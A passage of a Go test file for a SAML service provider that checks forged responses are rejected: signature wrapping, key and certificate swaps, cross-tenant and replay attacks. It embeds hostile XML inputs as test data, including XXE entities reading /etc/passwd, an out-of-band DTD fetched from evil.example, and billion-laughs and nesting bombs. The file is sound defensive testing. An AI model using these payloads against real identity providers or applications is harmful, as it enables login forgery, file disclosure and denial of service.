				a := assertionOf(t, doc)
				setNameID(a, victim)
				resignAssertion(samltest.Spec{SignatureMethod: samltest.AlgHMACSHA256, HMACKey: samltest.DefaultIdP().Cert.Raw})(t, doc)
			},
			control: func(t *testing.T, doc *etree.Document) {
				// Anyone can compute this "signature": the key is the public certificate.
				sig := samltest.SignatureOf(samltest.AssertionOf(doc))
				got, _ := base64.StdEncoding.DecodeString(samltest.Child(sig, nsDSig, "SignatureValue").Text())
				si, err := samltest.SignedInfoBytes(sig)
				if err != nil {
					t.Fatal(err)
				}
				m := hmac.New(sha256.New, samltest.DefaultIdP().Cert.Raw)
				m.Write(si)
				if !hmac.Equal(got, m.Sum(nil)) {
					t.Fatal("control: the HMAC does not verify with the public certificate as key")
				}
			},
			want: errSig,
		},
		{
			name: "RSA-MD5 signature method", catalog: "#20",
			forge: resignAssertion(samltest.Spec{SignatureMethod: samltest.AlgRSAMD5}),
			want:  errSig,
		},
		{
			name: "SHA-1 digest under an RSA-SHA256 signature", catalog: "#20",
			forge:   resignAssertion(samltest.Spec{DigestMethod: samltest.AlgDigestSHA1}),
			control: verifies(theAssertion), want: errSig,
		},
		{
			name: "attacker key with a cloned IdP certificate in KeyInfo (assertion)", catalog: "#21",
			by:   samltest.AttackerIdP,
			opts: func(o *samltest.Options) { o.NameID = victim },
			control: func(t *testing.T, doc *etree.Document) {
				if _, err := samltest.Verify(samltest.AssertionOf(doc), samltest.Now, samltest.AttackerIdP().Cert); err != nil {
					t.Fatalf("control: the forged signature is self-consistent: %v", err)
				}
			},
			want: errSig,
		},
		{
			name: "attacker key with a cloned IdP certificate in KeyInfo (response)", catalog: "#21", sign: samltest.SignResponse,
			by:   samltest.AttackerIdP,
			opts: func(o *samltest.Options) { o.NameID = victim },
			want: errSig,
		},
		{
			name: "attacker signature with the genuine IdP certificate in KeyInfo", catalog: "#21",
			by:   samltest.AttackerIdP,
			opts: func(o *samltest.Options) { o.NameID = victim },
			forge: func(t *testing.T, doc *etree.Document) {
				samltest.Find(samltest.SignatureOf(assertionOf(t, doc)), nsDSig, "X509Certificate").
					SetText(base64.StdEncoding.EncodeToString(samltest.DefaultIdP().Cert.Raw))
			},
			want: errSig,
		},
		{
			name: "another Entra tenant's genuine response", catalog: "#22",
			by:   samltest.OtherTenantIdP,
			opts: func(o *samltest.Options) { o.NameID = victim },
			want: errSig,
		},
		{
			name: "another tenant's response when its certificate is (wrongly) trusted too", catalog: "#22,#37",
			by:   samltest.OtherTenantIdP,
			cfg:  ourCertAndOther,
			opts: func(o *samltest.Options) { o.NameID = victim },
			want: []error{sp.ErrIssuer}, detail: []string{samltest.OtherTenantID, samltest.TenantID},
		},
		{
			name: "another tenant's assertion under a response Issuer rewritten to ours", catalog: "#22,#37",
			by:   samltest.OtherTenantIdP,
			cfg:  ourCertAndOther,
			opts: func(o *samltest.Options) { o.NameID = victim },
			forge: func(t *testing.T, doc *etree.Document) {
				samltest.Child(doc.Root(), nsSAML, "Issuer").SetText(samltest.IssuerFor(samltest.TenantID))
			},
			want: []error{sp.ErrIssuer}, detail: []string{samltest.OtherTenantID},
		},

		// ---- C. Parser-level --------------------------------------------------------
		{
			name: "DOCTYPE declared, unused", catalog: "#25",
			raw:  func(b []byte) []byte { return append([]byte(`<!DOCTYPE r [<!ELEMENT r ANY>]>`), b...) },
			want: errMalformed,
		},
		{
			name: "XXE: external entity read into NameID", catalog: "#25",
			raw: func(b []byte) []byte {
				b = bytes.Replace(b, []byte(">"+samltest.UserEmail+"</NameID>"), []byte(">&xxe;</NameID>"), 1)
				return append([]byte(`<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>`), b...)
			},
			want: errMalformed,
		},
		{
			name: "internal entity completes a NameID", catalog: "#25",
			opts: func(o *samltest.Options) { o.NameID = fullSplit },
			raw: func(b []byte) []byte {
				b = bytes.Replace(b, []byte(">"+fullSplit+"</NameID>"), []byte(">ceo@contoso.example&d;</NameID>"), 1)
				return append([]byte(`<!DOCTYPE r [<!ENTITY d ".evil.example">]>`), b...)
			},
			want: errMalformed,
		},
		{
			name: "parameter entity pointing out of band", catalog: "#25",
			raw: func(b []byte) []byte {
				return append([]byte(`<!DOCTYPE r [<!ENTITY % x SYSTEM "https://evil.example/x.dtd"> %x;]>`), b...)
			},
			want: errMalformed,
		},
		{
			name: "billion laughs", catalog: "#26",
			raw: func(b []byte) []byte {
				var d strings.Builder
				d.WriteString(`<!DOCTYPE r [<!ENTITY l0 "ha">`)
				for i := 1; i <= 10; i++ {
					fmt.Fprintf(&d, `<!ENTITY l%d "&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;">`, i, i-1, i-1, i-1, i-1, i-1, i-1, i-1, i-1, i-1, i-1)
				}
				d.WriteString(`]>`)
				b = bytes.Replace(b, []byte(">"+samltest.UserEmail+"</NameID>"), []byte(">&l10;</NameID>"), 1)
				return append([]byte(d.String()), b...)
			},
			want: errMalformed,
		},
		{
			name: "nesting bomb in unsigned Extensions", catalog: "#26",
			raw: func(b []byte) []byte {
				n := 100000
				bomb := "<samlp:Extensions>" + strings.Repeat("<x>", n) + strings.Repeat("</x>", n) + "</samlp:Extensions>"
				return bytes.Replace(b, []byte("</samlp:Status>"), []byte("</samlp:Status>"+bomb), 1)
			},
			want: errMalformed,
		},
		{
			name: "element-count bomb in unsigned Extensions", catalog: "#26",
			raw: func(b []byte) []byte {
				bomb := "<samlp:Extensions>" + strings.Repeat("<x/>", 200000) + "</samlp:Extensions>"
				return bytes.Replace(b, []byte("</samlp:Status>"), []byte("</samlp:Status>"+bomb), 1)
			},
			want: errMalformed,
		},
		{
			name: "duplicate Destination attribute on the response", catalog: "#27,#36",
			raw:  replaceOnce(` Destination="`, ` Destination="`+evilURL+`" Destination="`),
			want: errMalformed,
		},
		{
			name: "duplicate ID attribute on the assertion", catalog: "#27,#12",
			raw:  replaceOnce(`<Assertion ID="`, `<Assertion ID="`+evilID+`" ID="`),
			want: errMalformed,
		},
		{
			name: "two Status elements: Success then Responder", catalog: "#27,#41",
			forge: func(t *testing.T, doc *etree.Document) {
				st := statusOf(doc).Copy()
				st.SelectElement("samlp:StatusCode").CreateAttr("Value", samltest.StatusResponder)
				samltest.InsertAfter(statusOf(doc), st)
			},
			control: verifies(theAssertion),
			want:    errMalformed,
		},
		{
			name: "two Issuer elements on the response", catalog: "#27,#37",
			forge: func(t *testing.T, doc *etree.Document) {
				iss := samltest.Child(doc.Root(), nsSAML, "Issuer")
				evil := iss.Copy()
				evil.SetText(samltest.IssuerFor(samltest.OtherTenantID))
				samltest.InsertAfter(iss, evil)
			},
			control: verifies(theAssertion),
			want:    errMalformed,
		},
		{
			name: "two NameIDs signed by the IdP (parser differential bait)", catalog: "#23",
			opts: func(o *samltest.Options) {
				o.EditAssertion = func(a *etree.Element) {
					n := samltest.NameIDOf(a)
					second := n.Copy()
					second.SetText(victim)
					samltest.InsertAfter(n, second)
				}
			},
			control: verifies(theAssertion), want: errMalformed,
		},
		{
			name: "colon-laden prefixes (Go round-trip bait)", catalog: "#23",
			raw:  replaceOnce("</samlp:Status>", `</samlp:Status><x::y xmlns:x="urn:x"/>`),
			want: errMalformed,
		},
		{
			name: "directive and comment nesting (Go round-trip bait)", catalog: "#23",
			raw:  replaceOnce("</samlp:Status>", `</samlp:Status><! <<!-- -->!-- x --> y>`),
			want: errMalformed,
		},
		{
			name: "response Issuer in the protocol namespace naming another tenant", catalog: "#24,#37",
			forge: func(t *testing.T, doc *etree.Document) {
				iss := samltest.Child(doc.Root(), nsSAML, "Issuer")
				evil := protoEl("Issuer")
				evil.SetText(samltest.IssuerFor(samltest.OtherTenantID))
				samltest.InsertBefore(iss, evil)
				samltest.Detach(iss)
			},
			control: verifies(theAssertion),
			want:    []error{sp.ErrMalformed, sp.ErrIssuer}, accept: signedNameID(samltest.UserEmail),
		},
		{
			name: "Assertion lookalike in a foreign namespace before the real one", catalog: "#24",
			forge: func(t *testing.T, doc *etree.Document) {
				a := assertionOf(t, doc)
				evil := evilCopy(a, evilID)
				evil.CreateAttr("xmlns", evilNS)
				samltest.InsertBefore(a, evil)
			},
			control: verifies(theAssertion), want: errMalformed, accept: signedNameID(samltest.UserEmail),
		},
		{
			name: "saml prefix re-bound to a foreign namespace", catalog: "#24",
			raw: replaceOnce("<samlp:Status>",
				`<saml:Assertion xmlns:saml="`+evilNS+`" ID="`+evilID+`"><saml:Subject><saml:NameID>`+victim+`</saml:NameID></saml:Subject></saml:Assertion><samlp:Status>`),
			want: errMalformed, accept: signedNameID(samltest.UserEmail),
		},
		{
			name: "SAML 1.0 assertion namespace", catalog: "#24",
			sign: samltest.SignResponse,
			raw: func(b []byte) []byte {
				return bytes.Replace(b, []byte(`xmlns="`+nsSAML+`"><Issuer>`), []byte(`xmlns="urn:oasis:names:tc:SAML:1.0:assertion"><Issuer>`), 1)
			},
			want: errMalformed,
		},
		{
			name: "response signature element in a foreign namespace", catalog: "#24", sign: samltest.SignResponse,
			raw:  replaceOnce(`<Signature xmlns="`+nsDSig+`">`, `<Signature xmlns="`+evilNS+`">`),
			want: errSig,
		},
		{
			name: "root is not a Response (signed assertion inside a LogoutRequest)", catalog: "#13",
			raw: func(b []byte) []byte {
				b = bytes.Replace(b, []byte("<samlp:Response "), []byte("<samlp:LogoutRequest "), 1)
				return bytes.Replace(b, []byte("</samlp:Response>"), []byte("</samlp:LogoutRequest>"), 1)
			},
			want: errMalformed,
		},

		// ---- D. Encryption ----------------------------------------------------------
		{
			name: "attacker-encrypted unsigned assertion", catalog: "#28",
			opts: func(o *samltest.Options) {
				o.Sign = samltest.SignNone
				o.NameID = victim
				o.EncryptTo = samltest.DefaultSP().Cert
			},
			control: func(t *testing.T, doc *etree.Document) {
				if _, err := samltest.DefaultSP().Decrypt(samltest.Child(doc.Root(), nsSAML, "EncryptedAssertion")); err != nil {
					t.Fatalf("control: the SP can decrypt it: %v", err)
				}
			},
			want: errSig,
		},
		{
			name: "EncryptedAssertion swapped inside a signed response", catalog: "#28", sign: samltest.SignResponse,
			opts: func(o *samltest.Options) { o.EncryptTo = samltest.DefaultSP().Cert },
			forge: func(t *testing.T, doc *etree.Document) {
				evil, err := samltest.DefaultIdP().ResponseDoc(samltest.Options{Sign: samltest.SignNone, NameID: victim, EncryptTo: samltest.DefaultSP().Cert})
				if err != nil {
					t.Fatal(err)
				}
				old := samltest.Child(doc.Root(), nsSAML, "EncryptedAssertion")
				samltest.InsertBefore(old, samltest.Copy(samltest.Child(evil.Root(), nsSAML, "EncryptedAssertion")))
				samltest.Detach(old)
			},
			want: errSig,
		},
		{
			name: "ciphertext hides an evil assertion wrapping the signed one", catalog: "#28,#4",
			forge: encryptPlain(func(signed *etree.Element) []byte {
				evil := evilCopy(signed, evilID)
				samltest.Append(evil, samltest.Copy(signed))
				return samltest.Serialize(etree.NewDocumentWithRoot(evil))
			}),
			control: decryptsTo(victim), want: errMalformed,
		},
		{
			name: "ciphertext holds two assertions, the evil one first", catalog: "#28,#9",
			forge: encryptPlain(func(signed *etree.Element) []byte {
				evil := samltest.Serialize(etree.NewDocumentWithRoot(evilCopy(signed, evilID)))
				return append(evil, samltest.Serialize(etree.NewDocumentWithRoot(samltest.Copy(signed)))...)
			}),
			control: decryptsTo(victim), want: errMalformed,
		},
		{
			name: "ciphertext starts with a DOCTYPE", catalog: "#28,#25",
			forge: encryptPlain(func(signed *etree.Element) []byte {
				return append([]byte(`<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]>`),
					samltest.Serialize(etree.NewDocumentWithRoot(samltest.Copy(signed)))...)
			}),
			control: decryptsTo("<!DOCTYPE"), want: errMalformed,
		},
		{
			name: "content encryption switched from AES-CBC to AES-GCM", catalog: "#30",
			opts: func(o *samltest.Options) { o.EncryptTo = samltest.DefaultSP().Cert },
			raw:  replaceOnce("http://www.w3.org/2001/04/xmlenc#aes256-cbc", "http://www.w3.org/2009/xmlenc11#aes256-gcm"),
			want: errMalformed,
		},
		{
			name: "EncryptedKey replaced by a RetrievalMethod to an outside URL", catalog: "#30",
			opts: func(o *samltest.Options) { o.EncryptTo = samltest.DefaultSP().Cert },
			forge: func(t *testing.T, doc *etree.Document) {
				ki := samltest.Find(samltest.Child(doc.Root(), nsSAML, "EncryptedAssertion"), nsDSig, "KeyInfo")
				for _, c := range ki.ChildElements() {
					ki.RemoveChild(c)
				}
				rm := ki.CreateElement("ds:RetrievalMethod")
				rm.CreateAttr("xmlns:ds", nsDSig)
				rm.CreateAttr("URI", evilURL)
				rm.CreateAttr("Type", "http://www.w3.org/2001/04/xmlenc#EncryptedKey")
			},
			want: errMalformed,
		},
		{
			name: "EncryptedKey switched to RSA PKCS#1 v1.5", catalog: "#30",
			opts: func(o *samltest.Options) { o.EncryptTo = samltest.DefaultSP().Cert },
			raw:  replaceOnce("xmlenc#rsa-oaep-mgf1p", "xmlenc#rsa-1_5"),
			want: errMalformed,
		},

		// ---- E. Protocol ------------------------------------------------------------
		{
			name: "unsigned Status rewritten to Responder on an assertion-signed response", catalog: "#41,#39",
			forge: func(t *testing.T, doc *etree.Document) {
				statusOf(doc).SelectElement("samlp:StatusCode").CreateAttr("Value", samltest.StatusResponder)
			},
			control: verifies(theAssertion),
			want:    []error{sp.ErrStatus},
		},
		{
			name: "IdP-signed Responder status that still carries an assertion", catalog: "#41", sign: samltest.SignBoth,
			opts: func(o *samltest.Options) {
				o.Status = samltest.StatusResponder
				o.StatusMessage = "AADSTS50105: <script>alert(1)</script>"
			},
			control: verifies(theResponse),
			want:    []error{sp.ErrStatus}, detail: []string{"AADSTS50105"},
		},
		{
			name: "unsigned Destination rewritten (assertion-only signing)", catalog: "#36,#39",
			opts:    func(o *samltest.Options) { o.Destination = evilURL },
			control: verifies(theAssertion),
			want:    []error{sp.ErrDestination}, detail: []string{evilURL, samltest.ACSURL},
		},
		{
			name: "signed Destination of another endpoint", catalog: "#36", sign: samltest.SignResponse,
			opts: func(o *samltest.Options) { o.Destination = evilURL },
			want: []error{sp.ErrDestination}, detail: []string{evilURL},
		},
		{
			name: "Destination differs only in case and a trailing slash", catalog: "#36", sign: samltest.SignBoth,
			opts: func(o *samltest.Options) { o.Destination = "https://APP.example/organizations/acme/saml/consume/" },
			want: []error{sp.ErrDestination},
		},
		{
			name: "Recipient of another endpoint", catalog: "#36",
			opts: func(o *samltest.Options) { o.Recipient = evilURL },
			want: []error{sp.ErrDestination}, detail: []string{evilURL},
		},
		{
			name: "Recipient missing", catalog: "#36,#42",
			opts: func(o *samltest.Options) {
				o.EditAssertion = func(a *etree.Element) { samltest.SubjectConfirmationDataOf(a).RemoveAttr("Recipient") }
			},
			want: []error{sp.ErrDestination},
		},
		{
			name: "Audience of another SP", catalog: "#35",
			opts: func(o *samltest.Options) { o.Audience = "https://other-app.example/saml" },
			want: []error{sp.ErrAudience}, detail: []string{"https://other-app.example/saml", samltest.SPEntityID},
		},
		{
			name: "Audience with a trailing slash", catalog: "#35",
			opts: func(o *samltest.Options) { o.Audience = samltest.SPEntityID + "/" },
			want: []error{sp.ErrAudience},
		},
		{
			name: "two AudienceRestrictions, ours only in the second", catalog: "#35",
			opts: func(o *samltest.Options) {
				o.EditAssertion = func(a *etree.Element) {
					ar := samltest.Find(a, nsSAML, "AudienceRestriction")
					other := samltest.Copy(ar)
					samltest.Find(other, nsSAML, "Audience").SetText("https://other-app.example/saml")
					samltest.InsertBefore(ar, other)
				}
			},
			want: []error{sp.ErrAudience},
		},
		{
			name: "AudienceRestriction missing", catalog: "#35",
			opts: func(o *samltest.Options) {
				o.EditAssertion = func(a *etree.Element) { samltest.Detach(samltest.Find(a, nsSAML, "AudienceRestriction")) }
			},
			want: []error{sp.ErrAudience},
		},
		{
			name: "Issuer without its trailing slash", catalog: "#37",
			opts: func(o *samltest.Options) { o.Issuer = strings.TrimSuffix(idp.EntityID, "/") },
			want: []error{sp.ErrIssuer},
		},
		{
			name: "unsigned response Issuer rewritten to another tenant", catalog: "#37,#39",
			forge: func(t *testing.T, doc *etree.Document) {
				samltest.Child(doc.Root(), nsSAML, "Issuer").SetText(samltest.IssuerFor(samltest.OtherTenantID))
			},
			control: verifies(theAssertion),
			want:    []error{sp.ErrIssuer}, detail: []string{samltest.OtherTenantID},
		},
		{
			name: "holder-of-key instead of bearer confirmation", catalog: "#42",
			opts: func(o *samltest.Options) {
				o.EditAssertion = func(a *etree.Element) {
					samltest.Find(a, nsSAML, "SubjectConfirmation").CreateAttr("Method", "urn:oasis:names:tc:SAML:2.0:cm:holder-of-key")
				}
			},
			want: errMalformed,
		},
		{
			name: "two bearer confirmations: right Recipient but expired, live but wrong Recipient", catalog: "#42",
			opts: func(o *samltest.Options) {
				o.EditAssertion = func(a *etree.Element) {
					sc := samltest.Find(a, nsSAML, "SubjectConfirmation")
					samltest.Find(sc, nsSAML, "SubjectConfirmationData").CreateAttr("NotOnOrAfter", samltest.Timestamp(samltest.Now.Add(-time.Hour)))
					live := samltest.Copy(sc)
					samltest.Find(live, nsSAML, "SubjectConfirmationData").CreateAttr("NotOnOrAfter", samltest.Timestamp(samltest.Now.Add(time.Hour)))
					samltest.Find(live, nsSAML, "SubjectConfirmationData").CreateAttr("Recipient", evilURL)
					samltest.InsertAfter(sc, live)
				}
			},
			want: []error{sp.ErrExpired},
		},
		{
			name: "SubjectConfirmationData missing", catalog: "#42",
			opts: func(o *samltest.Options) {
				o.EditAssertion = func(a *etree.Element) { samltest.Detach(samltest.SubjectConfirmationDataOf(a)) }
			},
			want: errMalformed,
		},
		{
			name: "InResponseTo of a request this browser did not make", catalog: "#32",
			opts: func(o *samltest.Options) { o.InResponseTo = otherReq },
			want: []error{sp.ErrInResponseTo}, detail: []string{otherReq},
		},
		{
			name: "unsigned Response InResponseTo rewritten to ours, signed one is another", catalog: "#32,#39",
			opts: func(o *samltest.Options) { o.InResponseTo = otherReq },
			forge: func(t *testing.T, doc *etree.Document) {
				doc.Root().CreateAttr("InResponseTo", samltest.RequestID)
			},
			control: verifies(theAssertion),
			want:    []error{sp.ErrInResponseTo},
		},
		{
			name: "answer to a request, posted where IdP-initiated is allowed and nothing is outstanding", catalog: "#32,#33",
			cfg:        func(c *sp.Config) { c.AllowIdPInitiated = true },
			requestIDs: noRequests,
			noBaseline: true, // the baseline answers RequestID, which this browser does not hold
			control: func(t *testing.T, doc *etree.Document) {
				cfg := attackConfig()
				cfg.AllowIdPInitiated = true
				if _, err := attackSP(t, cfg).ValidateResponse(context.Background(), samltest.Encode(samltest.Serialize(doc)), samltest.RequestID); err != nil {
					t.Fatalf("control: accepted by the browser that made the request: %v", err)
				}
			},
			want: []error{sp.ErrInResponseTo},
		},
		{
			name: "unsolicited response while IdP-initiated login is off", catalog: "#33",
			opts:       func(o *samltest.Options) { o.Unsolicited = true },
			requestIDs: noRequests,
			noBaseline: true,
			control: func(t *testing.T, doc *etree.Document) {
				cfg := attackConfig()
				cfg.AllowIdPInitiated = true
				if _, err := attackSP(t, cfg).ValidateResponse(context.Background(), samltest.Encode(samltest.Serialize(doc))); err != nil {
					t.Fatalf("control: accepted once IdP-initiated login is allowed: %v", err)
				}
			},
			want: []error{sp.ErrUnsolicited},
		},
		{
			name: "unsolicited response while this browser waits for its own request", catalog: "#33",
			opts: func(o *samltest.Options) { o.Unsolicited = true },
			want: []error{sp.ErrUnsolicited},
		},
		{
			name: "expired: one second past NotOnOrAfter plus skew", catalog: "#38",
			at:   samltest.ValidUntil(samltest.Now).Add(180*time.Second + time.Second),
			want: []error{sp.ErrExpired},
		},
		{
			name: "not yet valid: one second before NotBefore minus skew", catalog: "#38",
			at:   samltest.ValidFrom(samltest.Now).Add(-180*time.Second - time.Second),
			want: []error{sp.ErrExpired},
		},
		{
			name: "IssueInstant older than MaxIssueDelay while the conditions still hold", catalog: "#38",
			opts: func(o *samltest.Options) { o.IssueInstant = samltest.Now.Add(-10 * time.Minute) },
			want: []error{sp.ErrExpired},
		},
		{
			name: "IssueInstant in the future beyond the skew, conditions already valid", catalog: "#38",
			opts: func(o *samltest.Options) { o.IssueInstant = samltest.Now.Add(4 * time.Minute) },
			want: []error{sp.ErrExpired},
		},
		{
			name: "unparsable Conditions NotOnOrAfter is not 'unbounded'", catalog: "#38",
			opts: func(o *samltest.Options) {
				o.EditAssertion = func(a *etree.Element) {
					samltest.Find(a, nsSAML, "Conditions").CreateAttr("NotOnOrAfter", "tomorrow")
				}
			},
			want: errMalformed,
		},
		{
			name: "bearer NotOnOrAfter missing", catalog: "#38",
			opts: func(o *samltest.Options) {
				o.EditAssertion = func(a *etree.Element) { samltest.SubjectConfirmationDataOf(a).RemoveAttr("NotOnOrAfter") }
			},
			want: []error{sp.ErrExpired},
		},
		{
			name: "unsigned Extensions carrying claims beside a signed assertion", catalog: "#39,#40",
			forge: func(t *testing.T, doc *etree.Document) {
				st := foreignEl("AttributeStatement", nsSAML)
				at := st.CreateElement("Attribute")
				at.CreateAttr("Name", samltest.ClaimGroups)
				at.CreateElement("AttributeValue").SetText("admins")
				samltest.Append(extensions(doc), st)
			},
			control: verifies(theAssertion),
			want:    errMalformed,
			accept: func(a *assertion.Assertion) error {
				if _, ok := a.Attributes[samltest.ClaimGroups]; ok {
					return errors.New("groups read from unsigned Extensions")
				}
				return nil
			},
		},
		{
			name: "Advice inside the signed assertion carries another subject", catalog: "#40",
			opts: func(o *samltest.Options) {
				o.EditAssertion = func(a *etree.Element) {
					adv := etree.NewElement("Advice")
					inner := samltest.Copy(a)
					inner.CreateAttr("ID", evilID)
					setNameID(inner, victim)
					adv.AddChild(inner)
					samltest.InsertBefore(samltest.Child(a, nsSAML, "AttributeStatement"), adv)
				}
			},
			control: verifies(theAssertion),
			want:    errMalformed, accept: signedNameID(samltest.UserEmail),
		},
	}
}

// decryptsTo: the SP's key opens the forged ciphertext and it holds what the attack put
// there, so the rejection is about the plaintext, not a broken encryption.
func decryptsTo(want string) func(*testing.T, *etree.Document) {
	return func(t *testing.T, doc *etree.Document) {
		t.Helper()
		plain, err := samltest.DefaultSP().Decrypt(samltest.Child(doc.Root(), nsSAML, "EncryptedAssertion"))
		if err != nil {
			t.Fatalf("control: the SP key does not open the ciphertext: %v", err)
		}
		if !bytes.Contains(plain, []byte(want)) {
			t.Fatalf("control: the plaintext lacks %q", want)
		}
	}
}

// encryptPlain replaces the signed assertion by an EncryptedAssertion (to the SP's key)
// whose plaintext is whatever plain makes of it: what an attacker who knows the SP's
// public certificate can always do.
func encryptPlain(plain func(signed *etree.Element) []byte) func(t *testing.T, doc *etree.Document) {
	return func(t *testing.T, doc *etree.Document) {
		t.Helper()
		a := assertionOf(t, doc)
		ea, err := samltest.EncryptBytes(plain(a), samltest.DefaultSP().Cert)
		if err != nil {
			t.Fatal(err)
		}
		samltest.InsertBefore(a, ea)
		samltest.Detach(a)
	}
}

// resignAssertion has the trusted IdP sign the assertion again with a hand-shaped
// signature: the IdP really signed it, so only our profile can refuse it.
func resignAssertion(spec samltest.Spec) func(t *testing.T, doc *etree.Document) {
	return func(t *testing.T, doc *etree.Document) {
		t.Helper()
		if err := samltest.DefaultIdP().SignSpec(assertionOf(t, doc), spec); err != nil {
			t.Fatal(err)
		}
	}
}

// --- positive controls ------------------------------------------------------------

// TestAttackSuiteBaselines: the unforged documents every attack starts from are accepted,
// with the signed identity, for every Entra Signing Option, with encryption, during a
// certificate rollover and with an attribute of 5,000 values (#26 must not fail closed).
func TestAttackSuiteBaselines(t *testing.T) {
	spKey := samltest.DefaultSP()
	many := make([]string, 5000)
	for i := range many {
		many[i] = samltest.ID(fmt.Sprint("group ", i))[1:]
	}
	rollover := func(c *sp.Config) {
		c.IdP.Certificates = append(c.IdP.Certificates, samltest.NextIdP().Cert)
	}
	for _, tc := range []struct {
		name string
		by   *samltest.IdP
		opts samltest.Options
		cfg  func(*sp.Config)
	}{
		{name: "assertion signed", opts: samltest.Options{Sign: samltest.SignAssertion}},
		{name: "response signed", opts: samltest.Options{Sign: samltest.SignResponse}},
		{name: "both signed, both required", opts: samltest.Options{Sign: samltest.SignBoth},
			cfg: func(c *sp.Config) { c.RequireSignedAssertion, c.RequireSignedResponse = true, true }},
		{name: "encrypted, assertion signed", opts: samltest.Options{EncryptTo: spKey.Cert}},
		{name: "encrypted, response signed", opts: samltest.Options{Sign: samltest.SignResponse, EncryptTo: spKey.Cert}},
		{name: "rollover: signed with the next certificate", by: samltest.NextIdP(), cfg: rollover},
		{name: "rollover: signed with the current certificate", cfg: rollover},
		{name: "5,000 group values", opts: samltest.Options{Sign: samltest.SignBoth, Groups: many}},
		{name: "SHA-512", opts: samltest.Options{Algorithm: samltest.SHA512}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			by := tc.by
			if by == nil {
				by = samltest.DefaultIdP()
			}
			cfg := attackConfig()
			if tc.cfg != nil {
				tc.cfg(&cfg)
			}
			b := by.MustResponse(t, tc.opts)
			a, err := attackSP(t, cfg).ValidateResponse(context.Background(), samltest.Encode(b), samltest.RequestID)
			if err != nil {
				t.Fatal(err)
			}
			if a.NameID.Value != samltest.UserEmail || a.Issuer != samltest.IssuerFor(samltest.TenantID) {
				t.Errorf("got %q from %q", a.NameID.Value, a.Issuer)
			}
			if len(tc.opts.Groups) > 0 && len(a.Attributes[samltest.ClaimGroups].Values) != len(tc.opts.Groups) {
				t.Errorf("groups: %d values, want %d", len(a.Attributes[samltest.ClaimGroups].Values), len(tc.opts.Groups))
			}
		})
	}
}

// --- replay and request binding (#31, #32) ----------------------------------------

func TestAttackReplay(t *testing.T) {
	ctx := context.Background()
	for _, sign := range []samltest.Placement{samltest.SignAssertion, samltest.SignResponse, samltest.SignBoth} {
		t.Run(sign.String(), func(t *testing.T) {
			s := attackSP(t, attackConfig())
			b := samltest.DefaultIdP().MustResponse(t, samltest.Options{Sign: sign})
			if _, err := s.ValidateResponse(ctx, samltest.Encode(b), samltest.RequestID); err != nil {
				t.Fatalf("control: first use rejected: %v", err)
			}
			_, err := s.ValidateResponse(ctx, samltest.Encode(b), samltest.RequestID)
			checkRejection(t, err, []error{sp.ErrReplay}, []string{samltest.ID("assertion")})
		})
	}
	t.Run("same assertion under a fresh, unsigned Response ID", func(t *testing.T) {
		s := attackSP(t, attackConfig())
		b := samltest.DefaultIdP().MustResponse(t, samltest.Options{})
		if _, err := s.ValidateResponse(ctx, samltest.Encode(b), samltest.RequestID); err != nil {
			t.Fatalf("control: first use rejected: %v", err)
		}
		again, err := samltest.Edit(b, func(doc *etree.Document) { doc.Root().CreateAttr("ID", evilID) })
		if err != nil {
			t.Fatal(err)
		}
		_, err = s.ValidateResponse(ctx, samltest.Encode(again), samltest.RequestID)
		checkRejection(t, err, []error{sp.ErrReplay}, nil)
	})
	t.Run("replay is forgotten only after the assertion expired", func(t *testing.T) {
		now := samltest.Now
		cfg := attackConfig()
		cfg.Now = func() time.Time { return now }
		s := attackSP(t, cfg)
		b := samltest.DefaultIdP().MustResponse(t, samltest.Options{})
		if _, err := s.ValidateResponse(ctx, samltest.Encode(b), samltest.RequestID); err != nil {
			t.Fatal(err)
		}
		now = samltest.ValidUntil(samltest.Now).Add(170 * time.Second) // still within NotOnOrAfter + skew
		_, err := s.ValidateResponse(ctx, samltest.Encode(b), samltest.RequestID)
		checkRejection(t, err, []error{sp.ErrReplay, sp.ErrExpired}, nil)
	})
}

// #32(b)/#33, INV-1: assertion-only signing (Entra's default) leaves Response/@InResponseTo
// unsigned. An IdP-initiated response (the signed SubjectConfirmationData has no
// InResponseTo) dressed up with an unsigned Response/@InResponseTo equal to the browser's
// outstanding request must not pass as an answer to that request: with AllowIdPInitiated
// off it must be ErrUnsolicited/ErrInResponseTo, and in no case may the returned
// Assertion.InResponseTo come from the unsigned attribute.
func TestAttackUnsolicitedDressedAsAnswer(t *testing.T) {
	// Control: undressed, the same response is accepted where IdP-initiated login is on.
	plain := samltest.DefaultIdP().MustResponse(t, samltest.Options{Unsolicited: true})
	cfg := attackConfig()
	cfg.AllowIdPInitiated = true
	if _, err := attackSP(t, cfg).ValidateResponse(context.Background(), samltest.Encode(plain)); err != nil {
		t.Fatalf("control: %v", err)
	}
	for _, allow := range []bool{false, true} {
		doc, err := samltest.DefaultIdP().ResponseDoc(samltest.Options{Unsolicited: true})
		if err != nil {
			t.Fatal(err)
		}
		doc.Root().CreateAttr("InResponseTo", samltest.RequestID)
		cfg := attackConfig()
		cfg.AllowIdPInitiated = allow
		a, err := attackSP(t, cfg).ValidateResponse(context.Background(), samltest.Encode(samltest.Serialize(doc)), samltest.RequestID)
		switch {
		case err != nil:
			checkRejection(t, err, []error{sp.ErrInResponseTo, sp.ErrUnsolicited}, nil)
		case !allow:
			t.Errorf("IdP-initiated response accepted with AllowIdPInitiated off, InResponseTo %q taken from the unsigned Response", a.InResponseTo)
		case a.InResponseTo != "":
			t.Errorf("Assertion.InResponseTo %q read from the unsigned Response; the signed assertion has none", a.InResponseTo)
		}
	}
}

// An AuthnRequest ID is consumed once: the request store hands it out a single time, so a
// second response answering the same request finds nothing outstanding (#32 d).
func TestAttackInResponseToReuse(t *testing.T) {
	ctx := context.Background()
	store := &web.MemoryRequestStore{Now: samltest.Clock}
	if err := store.Save(ctx, "relay-1", web.PendingRequest{ID: samltest.RequestID, ReturnTo: "/"}, samltest.Now.Add(10*time.Minute)); err != nil {
		t.Fatal(err)
	}
	s := attackSP(t, attackConfig())
	take := func() []string {
		p, err := store.Take(ctx, "relay-1")
		if err != nil {
			if !errors.Is(err, sp.ErrInResponseTo) {
				t.Fatalf("Take: %v", err)
			}
			return noRequests
		}
		return []string{p.ID}
	}
	first := samltest.DefaultIdP().MustResponse(t, samltest.Options{AssertionID: idFor("first")})
